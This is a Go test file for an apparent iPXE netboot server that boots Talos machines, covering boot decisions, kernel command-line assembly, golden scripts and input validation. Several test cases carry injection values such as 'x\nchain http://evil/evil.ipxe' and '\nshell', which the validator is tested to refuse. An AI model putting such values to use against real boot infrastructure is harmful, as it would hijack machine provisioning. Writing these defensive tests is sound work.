package boot

import (
	"errors"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/tinderbox-boot/tinderbox/internal/state"
	"github.com/tinderbox-boot/tinderbox/pkg/machine"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

func TestDecide(t *testing.T) {
	// Every state × known × unknown policy.
	for _, st := range machine.States {
		for _, known := range []bool{true, false} {
			for _, unknown := range []machine.Unknown{machine.UnknownMaintenance, machine.UnknownLocal, machine.UnknownIgnore} {
				var want Action
				switch {
				case !known && unknown == machine.UnknownMaintenance:
					want = Maintenance
				case !known && unknown == machine.UnknownLocal:
					want = LocalBoot
				case !known:
					want = Ignore
				case st == machine.Pending || st == machine.Installing || st == machine.Failed || st == machine.Netboot:
					want = Netboot
				default:
					want = LocalBoot
				}
				if got := Decide(st, known, unknown); got != want {
					t.Errorf("Decide(%q, known=%v, %q) = %q, want %q", st, known, unknown, got, want)
				}
			}
		}
	}
}

// TestDecideAfterInstallOnce walks a machine through install: once the way
// the boot flow does: reconcile, note the script request, decide.
func TestDecideAfterInstallOnce(t *testing.T) {
	m := state.Machine{}
	boot := func() Action {
		m.State = state.Reconcile(m.State, true, machine.InstallOnce)
		return Decide(m.ScriptServed(), true, machine.UnknownMaintenance)
	}
	if got := boot(); got != Netboot {
		t.Fatalf("first boot: got %q, want netboot", got)
	}
	m.ConfigServed()
	if got := boot(); got != LocalBoot || m.State != machine.Installed {
		t.Fatalf("boot after install: got %q in %q, want local in installed", got, m.State)
	}
	m.Reinstall()
	if got := boot(); got != Netboot {
		t.Fatalf("boot after reinstall: got %q, want netboot", got)
	}
}

func TestKernelArgs(t *testing.T) {
	const cmdline = "talos.platform=metal console=tty0 init_on_alloc=1 slab_nomerge pti=on"
	tests := []struct {
		name    string
		p       NetbootParams
		want    string
		wantErr string
	}{
		{
			name: "factory line and config URL",
			p:    NetbootParams{Cmdline: cmdline, ConfigURL: "http://192.0.2.1:8080/config/52-54-00-12-34-56?token=abc"},
			want: "talos.config=http://192.0.2.1:8080/config/52-54-00-12-34-56?token=abc " + cmdline,
		},
		{
			name: "maintenance has no talos.config",
			p:    NetbootParams{Cmdline: cmdline},
			want: cmdline,
		},
		{
			name: "profile args append",
			p:    NetbootParams{Cmdline: "a=1 b", KernelArgs: []string{"talos.logging.kernel=udp://192.0.2.1:6666", "console=ttyS0"}},
			want: "a=1 b talos.logging.kernel=udp://192.0.2.1:6666 console=ttyS0",
		},
		{
			name: "-name removes with and without value",
			p:    NetbootParams{Cmdline: "console=tty0 pti=on slab_nomerge console=ttyS0", KernelArgs: []string{"-console", "-slab_nomerge"}},
			want: "pti=on",
		},
		{
			name: "-name removes only earlier args",
			p:    NetbootParams{Cmdline: "console=tty0", KernelArgs: []string{"-console", "console=ttyS1,115200"}},
			want: "console=ttyS1,115200",
		},
		{
			name: "a profile's talos.config is replaced by tinderbox's",
			p:    NetbootParams{Cmdline: "a", KernelArgs: []string{"talos.config=http://elsewhere/"}, ConfigURL: "http://192.0.2.1/config/x"},
			want: "talos.config=http://192.0.2.1/config/x a",
		},
		{
			name: "tinderbox's own arguments go first, after talos.config; a profile can remove one",
			p: NetbootParams{Cmdline: "talos.platform=metal", KernelArgs: []string{"-talos.logging.kernel", "b"}, ConfigURL: "http://192.0.2.1/config/x",
				Own: []string{"talos.events.sink=192.0.2.1:8091", "talos.logging.kernel=tcp://192.0.2.1:8092/"}},
			want: "talos.config=http://192.0.2.1/config/x talos.events.sink=192.0.2.1:8091 talos.platform=metal b",
		},
		{
			name: "placeholders filled by tinderbox, the uuid in canonical form",
			p:    NetbootParams{MAC: testMAC, UUID: "8F1B6B2C-3A4D-4E5F-8A9B-0C1D2E3F4A5B", Hostname: "cp-01", KernelArgs: []string{"x=${mac}/${uuid}/${hostname}"}},
			want: "x=52:54:00:12:34:56/8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b/cp-01",
		},
		{
			name: "no uuid known: ${uuid} is empty",
			p:    NetbootParams{MAC: testMAC, KernelArgs: []string{"x=${uuid}"}},
			want: "x=",
		},
		{
			name: "a bad uuid or hostname no argument uses does not matter",
			p:    NetbootParams{MAC: testMAC, UUID: "x\nchain http://evil/evil.ipxe", Hostname: "a b", KernelArgs: []string{"x=${mac}"}},
			want: "x=52:54:00:12:34:56",
		},
		{
			name: "arm64 keeps 2048 bytes too, NUL included (arch/arm64/include/uapi/asm/setup.h)",
			p:    NetbootParams{Arch: "arm64", KernelArgs: []string{"a=" + strings.Repeat("x", 1000), "b=" + strings.Repeat("y", 2047-len("kernel-arm64 initrd=initramfs-arm64.xz a= b=")-1000)}},
			want: "a=" + strings.Repeat("x", 1000) + " b=" + strings.Repeat("y", 2047-len("kernel-arm64 initrd=initramfs-arm64.xz a= b=")-1000),
		},
		{
			name:    "one byte over arm64's limit",
			p:       NetbootParams{Arch: "arm64", KernelArgs: []string{"a=" + strings.Repeat("x", 1000), "b=" + strings.Repeat("y", 2048-len("kernel-arm64 initrd=initramfs-arm64.xz a= b=")-1000)}},
			wantErr: "longer than the 2047 an arm64 kernel keeps",
		},
		{
			name:    "one byte over amd64's limit",
			p:       NetbootParams{Arch: "amd64", KernelArgs: []string{"a=" + strings.Repeat("x", 1000), "b=" + strings.Repeat("y", 2048-len("kernel-amd64 initrd=initramfs-amd64.xz a= b=")-1000)}},
			wantErr: "longer than the 2047 an amd64 kernel keeps",
		},
		{
			name: "the longest command line the kernel keeps",
			p:    NetbootParams{Arch: "amd64", KernelArgs: []string{"a=" + strings.Repeat("x", maxValue-len("kernel-amd64 initrd=initramfs-amd64.xz a="))}},
			want: "a=" + strings.Repeat("x", maxValue-len("kernel-amd64 initrd=initramfs-amd64.xz a=")),
		},
		{
			name:    "unfillable placeholder",
			p:       NetbootParams{KernelArgs: []string{"x=${serial}"}},
			wantErr: `kernel argument "x=${serial}": holds "${", which iPXE would expand`,
		},
		{
			name:    "whitespace",
			p:       NetbootParams{KernelArgs: []string{"a b"}},
			wantErr: `kernel argument "a b": holds a space`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := KernelArgs(tt.p)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("got %v, %v; want error containing %q", got, err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if s := strings.Join(got, " "); s != tt.want {
				t.Errorf("got  %q\nwant %q", s, tt.want)
			}
		})
	}
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs from the golden file:\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

func TestGoldenScripts(t *testing.T) {
	const base = "http://192.0.2.1:8080"
	id := strings.Repeat("ab", 32)
	netboot := NetbootParams{
		BaseURL: base, MAC: testMAC, Hostname: "cp-01",
		SchematicID: id, Version: "v1.12.7", Arch: "amd64",
		Cmdline:    "talos.platform=metal console=tty0 init_on_alloc=1 slab_nomerge pti=on consoleblank=0 nvme_core.io_timeout=4294967295 printk.devkmsg=on selinux=1 module.sig_enforce=1 proc_mem.force_override=never",
		KernelArgs: []string{"talos.logging.kernel=udp://192.0.2.1:6666", "-consoleblank"},
		ConfigURL:  base + "/config/52-54-00-12-34-56?token=0123456789abcdef0123456789abcdef",
	}
	maintenance := netboot
	maintenance.ConfigURL, maintenance.KernelArgs, maintenance.Arch = "", nil, "arm64"

	for _, tt := range []struct {
		file string
		p    NetbootParams
	}{{"netboot.ipxe", netboot}, {"maintenance-arm64.ipxe", maintenance}} {
		t.Run(tt.file, func(t *testing.T) {
			s, err := NetbootScript(tt.p)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tt.file, s)
		})
	}
	t.Run("boot.ipxe", func(t *testing.T) { golden(t, "boot.ipxe", GenericScript(base)) })
	for _, method := range []string{"exit", "sanboot"} {
		t.Run("local-"+method, func(t *testing.T) {
			body, notFound := LocalScript(method, testMAC)
			if notFound {
				t.Errorf("notFound: got true, want a script")
			}
			golden(t, "local-"+method+".ipxe", body)
		})
	}
	t.Run("local-notfound", func(t *testing.T) {
		body, notFound := LocalScript(LocalNotFound, testMAC)
		if !notFound || strings.HasPrefix(body, "#!ipxe") {
			t.Errorf("got notFound=%v %q, want a not-found answer that is not a script", notFound, body)
		}
	})
}

// TestScriptsFailSoft checks that every script that can fail has a retry
// path and never drops into the iPXE shell.
func TestScriptsFailSoft(t *testing.T) {
	s, err := NetbootScript(NetbootParams{BaseURL: "http://h", SchematicID: "x", Version: "v1.0.0", Arch: "amd64"})
	if err != nil {
		t.Fatal(err)
	}
	for name, script := range map[string]string{"netboot": s, "generic": GenericScript("http://h")} {
		lines := strings.Split(script, "\n")
		if slices.Contains(lines, "shell") {
			t.Errorf("%s: drops into the iPXE shell", name)
		}
		for _, l := range lines {
			if (strings.HasPrefix(l, "kernel ") || strings.HasPrefix(l, "initrd ") || strings.HasPrefix(l, "chain ") || l == "boot") && !strings.Contains(l, "|| goto failed") {
				t.Errorf("%s: %q has no failure path", name, l)
			}
		}
		if !strings.Contains(script, ":failed\necho tinderbox:") || !strings.Contains(script, "sleep 10\ngoto ") {
			t.Errorf("%s: no message-and-retry after :failed:\n%s", name, script)
		}
	}
}

var testMAC = machine.MustParseMAC("52:54:00:12:34:56")

// maxErrLen bounds a ValueError's text whatever the value: it quotes at
// most two values of 64 bytes (the argument and its template), each byte
// as at most 4 characters (\xa8), with the message around them.
const maxErrLen = 1024

// TestNetbootRefuses checks that a value that would change the script's
// shape or the kernel's command line fails the whole script, naming the
// machine and the field, and leaves no partial script behind.
func TestNetbootRefuses(t *testing.T) {
	base := func() NetbootParams {
		return NetbootParams{
			BaseURL: "http://192.0.2.1:8080", MAC: testMAC, UUID: "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", Hostname: "cp-01",
			SchematicID: strings.Repeat("ab", 32), Version: "v1.12.7", Arch: "amd64",
			Cmdline:    "talos.platform=metal console=tty0",
			KernelArgs: []string{"talos.hostname=${hostname}", "sys.uuid=${uuid}"},
			ConfigURL:  "http://192.0.2.1:8080/config/52-54-00-12-34-56?token=abc",
		}
	}
	long := strings.Repeat("a", 500<<10)
	tests := []struct {
		name   string
		mod    func(p *NetbootParams)
		field  string
		reason string
	}{
		{"uuid with a newline and a command", func(p *NetbootParams) { p.UUID = "x\nchain http://evil/evil.ipxe" }, "uuid", "not an SMBIOS UUID"},
		{"uuid that is an iPXE setting", func(p *NetbootParams) { p.UUID = "${uuid}" }, "uuid", "not an SMBIOS UUID"},
		{"uuid of 500 KB", func(p *NetbootParams) { p.UUID = long }, "uuid", "not an SMBIOS UUID"},
		{"uuid all zero", func(p *NetbootParams) { p.UUID = "00000000-0000-0000-0000-000000000000" }, "uuid", "not an SMBIOS UUID"},
		{"hostname with LF", func(p *NetbootParams) { p.Hostname = "cp\nchain http://evil/" }, "hostname", "control character"},
		{"hostname with CR", func(p *NetbootParams) { p.Hostname = "cp\r" }, "hostname", "control character"},
		{"hostname with TAB", func(p *NetbootParams) { p.Hostname = "cp\t1" }, "hostname", "control character"},
		{"hostname with NUL", func(p *NetbootParams) { p.Hostname = "cp\x00" }, "hostname", "control character"},
		{"hostname not ASCII", func(p *NetbootParams) { p.Hostname = "c\u00e9" }, "hostname", "not ASCII"},
		{"hostname with ${", func(p *NetbootParams) { p.Hostname = "${net0/ip}" }, "hostname", `holds "${"`},
		{"hostname of 500 KB", func(p *NetbootParams) { p.Hostname = long }, "hostname", "longer than"},
		{"hostname that completes a placeholder", func(p *NetbootParams) {
			p.Hostname = "$"
			p.KernelArgs = []string{"a=${hostname}{net0/ip}"}
		}, "kernel argument", `holds "${"`},
		{"hostname as a whole argument starting a comment", func(p *NetbootParams) {
			p.Hostname = "#x"
			p.KernelArgs = []string{"${hostname}"}
		}, "kernel argument", `starts with "#"`},
		{"hostname as a whole argument that is ||", func(p *NetbootParams) {
			p.Hostname = "||"
			p.KernelArgs = []string{"${hostname}"}
		}, "kernel argument", "command separator"},
		{"argument that becomes empty", func(p *NetbootParams) { p.UUID, p.KernelArgs = "", []string{"${uuid}"} }, "kernel argument", "empty"},
		{"argument ;", func(p *NetbootParams) { p.KernelArgs = []string{";", "chain", "http://evil/"} }, "kernel argument", "command separator"},
		{"argument &&", func(p *NetbootParams) { p.KernelArgs = []string{"&&"} }, "kernel argument", "command separator"},
		{"argument with DEL", func(p *NetbootParams) { p.KernelArgs = []string{"a=\x7f"} }, "kernel argument", "control character"},
		{"factory cmdline with a comment", func(p *NetbootParams) { p.Cmdline = "a #b" }, "factory cmdline", `starts with "#"`},
		{"factory cmdline with a control character", func(p *NetbootParams) { p.Cmdline = "a=\x01" }, "factory cmdline", "control character"},
		{"factory cmdline of 500 KB", func(p *NetbootParams) { p.Cmdline = long }, "factory cmdline", "longer than"},
		{"config URL with LF", func(p *NetbootParams) { p.ConfigURL = "http://h/config?token=a\nchain http://evil/" }, "talos.config URL", "control character"},
		{"config URL with ${", func(p *NetbootParams) { p.ConfigURL = "http://h/${x}" }, "talos.config URL", `holds "${"`},
		{"command line over the kernel's limit", func(p *NetbootParams) {
			p.KernelArgs = slices.Repeat([]string{"a=" + strings.Repeat("x", 998)}, 2)
		}, "kernel command line", "longer than the 2047"},
		{"base URL with LF", func(p *NetbootParams) { p.BaseURL = "http://h\nshell" }, "base URL", "control character"},
		{"base URL starting a comment", func(p *NetbootParams) { p.BaseURL = "#" }, "base URL", `starts with "#"`},
		{"schematic with a space", func(p *NetbootParams) { p.SchematicID = "a b" }, "schematic ID", "space"},
		{"version ||", func(p *NetbootParams) { p.Version = "||" }, "version", "command separator"},
		{"version with ${", func(p *NetbootParams) { p.Version = "v${x}" }, "version", `holds "${"`},
		{"arch with LF", func(p *NetbootParams) { p.Arch = "amd64\nshell" }, "arch", "control character"},
	}
	if _, err := NetbootScript(base()); err != nil {
		t.Fatalf("base params: %v", err)
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := base()
			tt.mod(&p)
			s, err := NetbootScript(p)
			var ve *ValueError
			if !errors.As(err, &ve) {
				t.Fatalf("got %q, %v; want a *ValueError", s, err)
			}
			if s != "" {
				t.Errorf("got a script along with the error:\n%s", s)
			}
			if ve.MAC != testMAC || ve.Field != tt.field || !strings.Contains(ve.Reason, tt.reason) {
				t.Errorf("got machine %s field %q reason %q, want %s %q and a reason containing %q", ve.MAC, ve.Field, ve.Reason, testMAC, tt.field, tt.reason)
			}
			if msg := err.Error(); !strings.Contains(msg, testMAC.String()) || !strings.Contains(msg, tt.field) || len(msg) > maxErrLen {
				t.Errorf("error %q: want the machine and the field named, in under %d bytes", msg, maxErrLen)
			}
		})
	}
}

// TestKernelArgsOverLimitNamesArguments is the field report: a worker with
// ordinary long arguments (a proxy with a long no_proxy, bond=, ip=, remote
// logging) made a 2105-byte line, and the kernel kept 2047, cutting the
// talos.config that came last. talos.config now comes first, and such a
// line is refused naming what the kernel would lose and the profile's
// longest arguments.
func TestKernelArgsOverLimitNamesArguments(t *testing.T) {
	noProxy := "no_proxy=" + strings.TrimSuffix(strings.Repeat("10.0.0.0/8,192.168.0.0/16,.svc,.cluster.local,.lab.example,", 24), ",") // a 2106-byte line
	p := NetbootParams{
		MAC: testMAC, Arch: "amd64",
		ConfigURL: "http://192.168.1.2:8080/config/52-54-00-12-34-56?token=" + strings.Repeat("0", 32),
		Own:       []string{"talos.events.sink=192.168.1.2:8091", "talos.logging.kernel=tcp://192.168.1.2:8092/"},
		Cmdline:   "talos.platform=metal console=tty0 init_on_alloc=1 slab_nomerge pti=on consoleblank=0 nvme_core.io_timeout=4294967295 printk.devkmsg=on ima_template=ima-ng ima_appraise=fix ima_hash=sha512",
		KernelArgs: []string{
			"http_proxy=http://proxy.lab.example:3128", "https_proxy=http://proxy.lab.example:3128", noProxy,
			"bond=bond0:enp1s0,enp2s0:mode=802.3ad,xmit_hash_policy=layer3+4,miimon=100",
			"ip=192.168.1.21::192.168.1.1:255.255.255.0:w-21:bond0:off:192.168.1.1",
			"talos.logging.kernel=udp://logs.lab.example:6050/",
		},
	}
	_, err := KernelArgs(p)
	var ve *ValueError
	if !errors.As(err, &ve) {
		t.Fatalf("got %v, want a *ValueError", err)
	}
	msg := err.Error()
	for _, want := range []string{
		"longer than the 2047 an amd64 kernel keeps",
		"bytes over: the kernel would lose",
		`"talos.logging.kernel"`,                       // the last argument is the first lost
		`the profile's longest kernelArgs: "no_proxy"`, // the fix is in there
	} {
		if !strings.Contains(msg, want) {
			t.Errorf("error lacks %q:\n%s", want, msg)
		}
	}
	if strings.Contains(msg[strings.Index(msg, "would lose"):], "talos.config") {
		t.Errorf("talos.config comes first and is never what is cut:\n%s", msg)
	}
	// One byte under: the same arguments with no_proxy shortened fit.
	over, _ := strconv.Atoi(strings.Fields(msg[strings.Index(msg, "cut the rest. ")+len("cut the rest. "):])[0])
	p.KernelArgs[2] = noProxy[:len(noProxy)-over]
	if _, err := KernelArgs(p); err != nil {
		t.Errorf("shortened by the %d bytes over: %v", over, err)
	}
}
